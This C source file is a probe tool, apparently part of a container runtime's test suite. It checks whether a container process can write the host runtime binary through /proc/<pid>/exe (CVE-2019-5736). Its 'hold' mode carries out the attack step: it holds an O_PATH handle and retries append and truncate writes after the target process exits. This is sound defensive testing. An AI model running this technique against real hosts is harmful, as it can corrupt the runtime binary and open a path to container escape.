/*
 * exe-probe: what a process's /proc/<pid>/exe is, and whether a container process could write
 * the runtime binary through it (security.md §2.1, CVE-2019-5736). Statically linked, so it runs
 * on the host and in a busybox container alike.
 *
 * usage:
 *   exe-probe info PATH        one line: link=<readlink PATH> devino=<dev>:<ino> nlink=<n>
 *                              seals=<hex|none> overlay=<0|1> ro=<0|1>   (exit 0, 2 on error)
 *   exe-probe hold PID [FIFO]  the attack: open /proc/PID/exe with O_PATH and print its info
 *                              line; drain FIFO if given (which releases a PID blocked on
 *                              opening it); wait for PID to exit; then for up to 5 s (retrying
 *                              while the file is busy) reopen the handle through
 *                              /proc/self/fd/N for writing: O_WRONLY|O_APPEND plus a write, and
 *                              O_WRONLY|O_TRUNC. Prints append=<ok|ERRNO> and trunc=<ok|ERRNO>.
 *                              Exit 0 when both failed, 1 when one worked, 2 when the handle
 *                              could not be taken.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define OVERLAYFS_MAGIC 0x794c7630
#define ST_RDONLY_FLAG 1

static const char* err_name(int e)
{
    const char* n = strerrorname_np(e);
    return n ? n : "E?";
}

static void sleep_ms(long ms)
{
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

/* Prints the info line of an open fd whose link text is `link`. */
static int print_info(int fd, const char* link)
{
    struct stat st;
    struct statfs fs;
    if (fstat(fd, &st) < 0 || fstatfs(fd, &fs) < 0) {
        fprintf(stderr, "exe-probe: fstat: %s\n", strerror(errno));
        return 2;
    }
    /* F_GET_SEALS needs a real open file, not an O_PATH one. */
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int rd = open(self, O_RDONLY | O_CLOEXEC);
    int seals = rd >= 0 ? fcntl(rd, F_GET_SEALS) : -1;
    if (rd >= 0)
        close(rd);
    char sealtext[32] = "none";
    if (seals >= 0)
        snprintf(sealtext, sizeof sealtext, "0x%x", seals);
    printf("link=%s devino=%u:%lu nlink=%lu seals=%s overlay=%d ro=%d\n", link,
        (unsigned)st.st_dev, (unsigned long)st.st_ino, (unsigned long)st.st_nlink, sealtext,
        fs.f_type == OVERLAYFS_MAGIC, (fs.f_flags & ST_RDONLY_FLAG) != 0);
    fflush(stdout);
    return 0;
}

static int info(const char* path)
{
    char link[4096] = "";
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n > 0)
        link[n] = 0;
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        fprintf(stderr, "exe-probe: open %s: %s\n", path, strerror(errno));
        return 2;
    }
    return print_info(fd, link);
}

/* Alive and not a zombie. */
static int running(const char* pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%s/stat", pid);
    FILE* f = fopen(path, "r");
    if (!f)
        return 0;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = 0;
    char* paren = strrchr(buf, ')');
    return paren && paren[1] == ' ' && paren[2] != 'Z' && paren[2] != 'X';
}

/* One write attempt through the held handle: 0 when it failed, 1 when it worked. */
static int try_write(int handle, int flags, int* err)
{
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", handle);
    int fd = open(self, flags | O_CLOEXEC);
    if (fd < 0) {
        *err = errno;
        return 0;
    }
    if (!(flags & O_TRUNC) && write(fd, "x", 1) != 1) {
        *err = errno;
        close(fd);
        return 0;
    }
    close(fd);
    return 1;
}

static int hold(const char* pid, const char* fifo)
{
    char path[64], link[4096] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n > 0)
        link[n] = 0;
    int handle = open(path, O_PATH | O_CLOEXEC);
    if (handle < 0) {
        printf("open=%s\n", err_name(errno));
        return 2;
    }
    if (print_info(handle, link) != 0)
        return 2;
    if (fifo) {
        int f = open(fifo, O_RDONLY | O_CLOEXEC);
        if (f < 0) {
            printf("fifo=%s\n", err_name(errno));
            return 2;
        }
        char buf[4096];
        while (read(f, buf, sizeof buf) > 0) { }
        close(f);
    }
    for (int i = 0; i < 400 && running(pid); i++)
        sleep_ms(50);
    if (running(pid)) {
        printf("exited=no\n");
        return 2;
    }
    int results[2] = {0, 0}, errs[2] = {0, 0};
    const int flags[2] = {O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC};
    for (int k = 0; k < 2; k++) {
        for (int i = 0; i < 100; i++) {
            results[k] = try_write(handle, flags[k], &errs[k]);
            if (results[k] || errs[k] != ETXTBSY)
                break;
            sleep_ms(50);
        }
    }
    printf("append=%s\ntrunc=%s\n", results[0] ? "ok" : err_name(errs[0]),
        results[1] ? "ok" : err_name(errs[1]));
    return results[0] || results[1] ? 1 : 0;
}

int main(int argc, char** argv)
{
    if (argc == 3 && strcmp(argv[1], "info") == 0)
        return info(argv[2]);
    if ((argc == 3 || argc == 4) && strcmp(argv[1], "hold") == 0)
        return hold(argv[2], argc == 4 ? argv[3] : NULL);
    fprintf(stderr, "usage: exe-probe info PATH | exe-probe hold PID [FIFO]\n");
    return 2;
}
